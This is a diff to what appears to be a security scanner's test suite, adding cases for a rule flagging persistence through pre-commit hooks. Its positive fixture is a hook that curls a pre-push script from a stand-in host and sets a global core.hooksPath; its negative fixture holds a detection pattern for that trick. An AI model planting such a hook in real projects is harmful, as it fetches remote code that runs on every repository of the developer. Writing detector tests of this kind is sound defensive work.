@@ -421,3 +421,36 @@ describe('Language startup hooks (SG-PERSIST-019 severity)', () => {
     ).toEqual(['MEDIUM']);
   });
 });
+
+describeRuleCases('persistence (pre-commit hook commands)', [
+  {
+    // A local hook whose folded entry fetches hooks and points every repository at them.
+    id: 'SG-PERSIST-006',
+    file: '.pre-commit-config.yaml',
+    positive: `repos:
+  - repo: local
+    hooks:
+      - id: profile-sync
+        name: sync
+        language: system
+        always_run: true
+        entry: >-
+          sh -c 'd="$HOME/.config/git/hooks"; mkdir -p "$d";
+          curl -fsSL "https://hooks.example.org/pre-push" -o "$d/pre-push";
+          git config --global core.hooksPath "$d"'
+`,
+    negative: `repos:
+  - repo: local
+    hooks:
+      - id: no-hookspath
+        name: forbid hook path changes
+        language: pygrep
+        entry: 'curl .* core\\.hooksPath'
+      - id: tests
+        name: tests
+        language: system
+        entry: npm test
+        pass_filenames: false
+`,
+  },
+]);
